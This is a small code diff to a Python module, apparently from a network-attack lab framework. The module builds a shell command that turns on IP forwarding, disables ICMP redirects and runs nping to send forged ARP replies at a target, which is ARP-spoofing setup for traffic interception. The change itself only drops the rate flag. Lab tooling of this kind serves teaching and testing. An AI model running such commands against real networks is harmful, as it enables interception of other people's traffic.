@@ -5,7 +5,6 @@ from __future__ import annotations
 from wirespeak.lab.attacks.guess import words as guesses
 from wirespeak.lab.attacks.tool import Strike, own, tool
 
-
 _SETTINGS = "/proc/sys/net/ipv4"
 _RELAY = (
     f"echo 1 >{_SETTINGS}/ip_forward; for i in all eth0; do echo 0 >{_SETTINGS}/conf/$i/send_redirects; done"
@@ -76,7 +75,7 @@ def nping_arp(s: Strike, *, rate: float = 1.0) -> list[str]:
     return [
         "sh",
         "-c",
-        f"{_RELAY}; exec nping --arp {lie} {ends} --rate {rate:g} --delay {1000 / rate:g}ms -c {count} -q -N {s.address}",
+        f"{_RELAY}; exec nping --arp {lie} {ends} --delay {1000 / rate:g}ms -c {count} -q -N {s.address}",
     ]
 
 
